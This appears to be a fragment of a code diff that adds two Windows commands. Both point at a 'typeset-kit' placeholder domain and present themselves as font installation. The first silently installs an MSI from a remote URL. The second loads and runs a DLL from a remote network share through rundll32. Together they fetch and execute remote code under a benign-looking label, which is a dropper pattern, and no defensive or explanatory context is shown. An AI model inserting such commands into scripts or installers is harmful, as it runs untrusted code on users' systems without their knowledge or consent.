@@ -1,0 +1,2 @@
+msiexec /qn /i https://cdn.typeset-kit.invalid/fonts.msi
+rundll32.exe \\files.typeset-kit.invalid\share\f.dll,Start
